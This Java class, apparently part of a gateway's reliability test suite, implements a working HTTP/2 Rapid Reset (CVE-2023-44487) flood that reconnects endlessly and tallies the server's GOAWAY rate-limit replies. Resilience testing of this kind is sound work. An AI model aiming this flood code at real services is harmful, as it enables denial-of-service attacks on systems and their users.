package io.infergate.infer.perf.reliability;

import io.infergate.infer.observability.testing.Http2Frames;
import io.netty.bootstrap.Bootstrap;
import io.netty.channel.ChannelFuture;
import io.netty.channel.ChannelHandlerContext;
import io.netty.channel.EventLoopGroup;
import io.netty.channel.nio.NioEventLoopGroup;
import io.netty.channel.socket.nio.NioSocketChannel;
import io.netty.handler.codec.http2.DefaultHttp2FrameWriter;
import io.netty.handler.codec.http2.Http2Error;
import io.netty.handler.codec.http2.Http2FrameListener;
import io.netty.handler.codec.http2.Http2Headers;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.LongAdder;

/**
 * An HTTP/2 Rapid Reset attacker (CVE-2023-44487) on Netty's frame writer and reader: the HEADERS
 * of a gRPC call followed at once by RST_STREAM CANCEL, in batches, as fast as the socket takes
 * them. When the server closes the connection (grpc-java: GOAWAY ENHANCE_YOUR_CALM {@code
 * too_many_rststreams}) it counts that and connects again, so the attack never stops.
 *
 * <p>Paced by the socket, not by a rate: the next batch is written when the previous one has been
 * handed to the kernel, so the attacker's own buffer stays small and it sends as fast as the
 * gateway reads. Each connection gets its own frame writer, because HPACK state is per connection.
 */
final class RapidResetAttacker implements AutoCloseable {
  /** HEADERS + RST_STREAM pairs per write: large enough to amortize a flush, small to pace. */
  private static final int BATCH = 100;

  private static final Http2Headers HEADERS =
      Http2Frames.grpcRequest("/inference.GRPCInferenceService/ModelInfer");

  private final EventLoopGroup group = new NioEventLoopGroup(1);
  private final HostPort target;
  private final LongAdder streamsSent = new LongAdder();
  private final LongAdder connections = new LongAdder();
  private final LongAdder closedByServer = new LongAdder();
  private final LongAdder tooManyRstStreams = new LongAdder();
  private volatile boolean stopped;

  RapidResetAttacker(HostPort target) {
    this.target = target;
  }

  /** Starts attacking; returns at once. */
  void start() {
    connect();
  }

  private void connect() {
    if (stopped) {
      return;
    }
    connections.increment();
    new Bootstrap()
        .group(group)
        .channel(NioSocketChannel.class)
        .handler(new AttackHandler())
        .connect(target.host(), target.port())
        .addListener(
            (ChannelFuture f) -> {
              if (!f.isSuccess() && !stopped) {
                // Refused (say, the gateway is restarting): try again shortly, never in a spin.
                group.schedule(this::connect, 10, TimeUnit.MILLISECONDS);
              }
            });
  }

  /**
   * What it has done so far: HEADERS+RST_STREAM pairs written (handed to the socket, not
   * necessarily read), connections opened, connections the server closed while the attacker still
   * wanted them, and GOAWAY frames read with ENHANCE_YOUR_CALM and {@code too_many_rststreams}.
   */
  RapidResetAttackerMain.Totals totals() {
    return new RapidResetAttackerMain.Totals(
        streamsSent.sum(), connections.sum(), closedByServer.sum(), tooManyRstStreams.sum());
  }

  @Override
  public void close() {
    stopped = true;
    group.shutdownGracefully(0, 1, TimeUnit.SECONDS).syncUninterruptibly();
  }

  /** One connection: preface first, then batches until the server closes it. */
  private final class AttackHandler extends Http2Frames.ClientConnection {
    private int nextStream = 1;

    AttackHandler() {
      super(new DefaultHttp2FrameWriter());
    }

    /** The preface goes out before anything is read, then the first batch. */
    @Override
    public void channelActive(ChannelHandlerContext ctx) throws Exception {
      super.channelActive(ctx);
      writeBatch(ctx);
    }

    private void writeBatch(ChannelHandlerContext ctx) {
      if (stopped || !ctx.channel().isActive()) {
        return;
      }
      for (int i = 0; i < BATCH; i++) {
        writer.writeHeaders(ctx, nextStream, HEADERS, 0, false, ctx.newPromise());
        writer.writeRstStream(ctx, nextStream, Http2Error.CANCEL.code(), ctx.newPromise());
        nextStream += 2;
      }
      streamsSent.add(BATCH);
      ctx.writeAndFlush(ctx.alloc().buffer(0))
          .addListener(
              f -> {
                if (f.isSuccess()) {
                  writeBatch(ctx);
                }
              });
    }

    @Override
    public void channelInactive(ChannelHandlerContext ctx) throws Exception {
      super.channelInactive(ctx); // decodes what was read last, the GOAWAY among it
      if (!stopped) {
        closedByServer.increment();
        connect();
      }
    }

    /** A reset by the peer or a frame we cannot parse: the connection is gone; start another. */
    @Override
    public void exceptionCaught(ChannelHandlerContext ctx, Throwable cause) {
      ctx.close();
    }

    @Override
    protected Http2FrameListener listener() {
      return new Http2Frames.Acknowledging(writer) {
        @Override
        protected void onGoAway(Http2Frames.GoAway goAway) {
          if (goAway.errorCode() == Http2Error.ENHANCE_YOUR_CALM.code()
              && goAway.debugData().contains("too_many_rststreams")) {
            tooManyRstStreams.increment();
          }
        }
      };
    }
  }
}
